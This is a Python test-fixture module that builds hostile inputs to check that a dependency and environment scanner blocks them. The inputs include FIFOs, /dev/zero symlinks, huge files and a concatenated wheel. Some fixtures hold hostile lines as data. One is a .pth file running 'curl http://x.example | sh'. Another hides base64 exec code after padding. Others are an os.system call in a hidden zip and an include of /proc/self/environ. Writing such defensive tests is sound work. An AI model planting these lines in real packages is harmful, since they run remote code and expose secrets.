"""Issue 17's hostile cases as command lines, built in a directory: the property test
(`test_hostile_property.py`) runs each one and benchmarks/bench_memory.py prints the
peak memory of each.

Every case must end in exit 1 (blocked) or 3 (incomplete): never 0, never a traceback.
"""

from __future__ import annotations

import json
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.helpers.wheels import install_wheel, make_site_packages, make_wheel
from tests.hostile.canaries import pickle_exec_proto4

EVIL = "evilpkg==1.0\n"  # MAL-2099-1 in the tiny OSV database
TINY_OSV = """{"id": "MAL-2099-1", "modified": "2026-01-01T00:00:00Z",
 "summary": "Malicious code in evilpkg (PyPI)",
 "affected": [{"package": {"ecosystem": "PyPI", "name": "evilpkg"}, "versions": ["1.0"]}]}
"""


@dataclass(frozen=True)
class Case:
    """One hostile input: the wormsign arguments that scan it."""

    name: str
    args: tuple[str, ...]
    bounded_read: bool = False
    """A case whose danger is an endless or huge read (bench_memory prints these)."""


def tiny_osv(root: Path) -> Path:
    path = root / "tiny-osv"
    path.mkdir(exist_ok=True)
    (path / "MAL-2099-1.json").write_text(TINY_OSV)
    return path


def _project(root: Path, name: str) -> Path:
    path = root / name
    path.mkdir()
    return path


def _scan(db: Path, *rest: str) -> tuple[str, ...]:
    return ("scan", "--no-cache", "--format", "json", "--db", str(db), *rest)


def _fifo_in_project(root: Path, db: Path) -> Case:
    p = _project(root, "fifo-project")
    (p / "requirements-base.txt").write_text(EVIL)
    for name in ("requirements.txt", "uv.lock", "model.pt"):
        os.mkfifo(p / name)
    return Case("FIFOs as requirements.txt, uv.lock, model.pt", _scan(db, str(p)), True)


def _fifo_target(root: Path, db: Path) -> Case:
    fifo = root / "requirements.txt"
    os.mkfifo(fifo)
    return Case("a FIFO as the target", _scan(db, str(fifo)), True)


def _dev_zero_lock(root: Path, db: Path) -> Case:
    p = _project(root, "zero-project")
    (p / "uv.lock").symlink_to("/dev/zero")
    return Case("/dev/zero symlinked as uv.lock", _scan(db, str(p)), True)


def _dev_zero_target(root: Path, db: Path) -> Case:
    target = root / "zero-requirements.txt"
    target.symlink_to("/dev/zero")
    return Case("/dev/zero as the target", _scan(db, str(target)), True)


def _printing_python(root: Path, db: Path) -> Case:
    venv = root / "printing-venv"
    site = make_site_packages(venv)
    (site / "evil.pth").write_text("import os; os.system('curl http://x.example | sh')\n")
    python = venv / "bin" / "python"
    python.write_text("#!/bin/sh\nwhile :; do echo yes; done\n")
    python.chmod(0o755)
    return Case("--python that prints forever", _scan(db, "--python", str(python)), True)


def _huge_db_source(root: Path, db: Path) -> Case:
    del db
    source = root / "huge-osv.json"
    with source.open("wb") as fh:
        fh.write(b"[")
        fh.truncate(1 << 30)
    target = root / "huge-db" / "osv.sqlite"
    return Case(
        "db update from a 1 GiB source",
        ("db", "update", "--source", str(source), "--db", str(target)),
        True,
    )


def _padded_pth(root: Path, db: Path) -> Case:
    venv = root / "padded-venv"
    site = make_site_packages(venv)
    (site / "zz.pth").write_text(
        "# pad\n" * 800_000 + "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
    )
    return Case(".pth code after 4.8 MB of padding", _scan(db, "--env", str(venv)), True)


def _huge_pth(root: Path, db: Path) -> Case:
    venv = root / "huge-pth-venv"
    site = make_site_packages(venv)
    with (site / "huge.pth").open("wb") as fh:
        fh.truncate(2 << 30)
    return Case("a 2 GiB sparse .pth", _scan(db, "--env", str(venv)), True)


def _many_record_rows(root: Path, db: Path) -> Case:
    venv = root / "record-venv"
    site = make_site_packages(venv)
    install_wheel(
        make_wheel(root, "demo", "1.0", {"demo/__init__.py": "x = 1\n"}), site, prefix=venv
    )
    record = site / "demo-1.0.dist-info" / "RECORD"
    with record.open("a") as fh:
        fh.writelines(f"demo/missing_{i}.py,,\n" for i in range(200_000))
    (site / "demo" / "__init__.py").write_text("x = 2\n")
    return Case("a RECORD with 200,000 rows", _scan(db, "--env", str(venv)), True)


def _empty_dir(root: Path, db: Path) -> Case:
    return Case("an empty directory", _scan(db, str(_project(root, "empty"))))


def _conda_only(root: Path, db: Path) -> Case:
    lock = root / "conda-lock.yml"
    lock.write_text(
        "version: 1\nmetadata:\n  content_hash:\n    linux-64: abc\n  channels:\n"
        "  - url: conda-forge\n    used_env_vars: []\n  platforms:\n  - linux-64\n"
        "  sources:\n  - environment.yml\npackage:\n- name: python\n  version: 3.12.1\n"
        "  manager: conda\n  platform: linux-64\n  dependencies: {}\n"
        "  url: https://conda.anaconda.org/conda-forge/linux-64/python-3.12.1.conda\n"
        "  hash:\n    md5: d7c89558ba9fa0495403155b64376d81\n  category: main\n"
        "  optional: false\n"
    )
    return Case("a conda-lock holding only conda packages", _scan(db, str(lock)))


def _symlinked_lock(root: Path, db: Path) -> Case:
    p = _project(root, "linked-project")
    (p / "locks").mkdir()
    (p / "locks" / "real.txt").write_text(EVIL)
    (p / "requirements.txt").symlink_to("locks/real.txt")
    return Case("a symlinked requirements.txt", _scan(db, str(p)))


def _symlinked_model(root: Path, db: Path) -> Case:
    p = _project(root, "linked-model")
    (p / "w.bin").write_bytes(pickle_exec_proto4("print(1)"))
    (p / "model.pt").symlink_to("w.bin")
    return Case("a symlinked model.pt", _scan(db, str(p)))


def _quiet_config(root: Path, db: Path) -> Case:
    quiet = _project(root, "quiet")
    (quiet / "wormsign.toml").write_text("checks = []\n")
    (quiet / "requirements.txt").write_text("click==8.1.7\n")
    victim = _project(root, "victim")
    (victim / "requirements.txt").write_text(EVIL)
    return Case("a config in one target switching checks off", _scan(db, str(quiet), str(victim)))


def _outside_include(root: Path, db: Path) -> Case:
    p = _project(root, "include-project")
    (p / "requirements.txt").write_text("click==8.1.7\n-r /proc/self/environ\n")
    return Case("-r /proc/self/environ", _scan(db, str(p)))


def _wheel_target(root: Path, db: Path) -> Case:
    wheel = make_wheel(root, "evilpkg", "1.0", {"evilpkg/__init__.py": "x = 1\n"})
    return Case("a known-malicious wheel as the target", _scan(db, str(wheel)))


def _concatenated_zip(root: Path, db: Path) -> Case:
    (root / "cat").mkdir()
    wheel = make_wheel(root / "cat", "demo", "1.0", {"demo/__init__.py": "x = 1\n"})
    hidden = root / "hidden.zip"
    with zipfile.ZipFile(hidden, "w") as zf:
        zf.writestr("demo/__init__.py", "import os; os.system('id')\n")
    joined = root / wheel.name
    joined.write_bytes(hidden.read_bytes() + wheel.read_bytes())
    return Case("a concatenated wheel", _scan(db, str(joined)))


def _malformed_db_source(root: Path, db: Path) -> Case:
    del db
    target = root / "guarded" / "osv.sqlite"
    target.parent.mkdir()
    from scanner.checks.advisories.database import import_records

    import_records(
        [
            {
                "id": f"PYSEC-2099-{i}",
                "modified": "2026-01-01T00:00:00Z",
                "affected": [{"package": {"ecosystem": "PyPI", "name": f"p{i}"}}],
            }
            for i in range(150)
        ],
        target,
    )
    bad = root / "bad.zip"
    with zipfile.ZipFile(bad, "w") as zf:
        zf.writestr("ok.json", json.dumps({"id": "PYSEC-2099-1", "modified": "2026-01-01"}))
        for i in range(5):
            zf.writestr(f"b{i}.json", "{")
    return Case(
        "db update from a mostly malformed source",
        ("db", "update", "--source", str(bad), "--db", str(target)),
    )


BUILDERS: tuple[Callable[[Path, Path], Case], ...] = (
    _fifo_in_project,
    _fifo_target,
    _dev_zero_lock,
    _dev_zero_target,
    _printing_python,
    _huge_db_source,
    _padded_pth,
    _huge_pth,
    _many_record_rows,
    _empty_dir,
    _conda_only,
    _symlinked_lock,
    _symlinked_model,
    _quiet_config,
    _outside_include,
    _wheel_target,
    _concatenated_zip,
    _malformed_db_source,
)


def build(builder: Callable[[Path, Path], Case], root: Path) -> Case:
    """Build one case in a fresh directory under `root`."""
    root.mkdir(parents=True, exist_ok=True)
    return builder(root, tiny_osv(root))
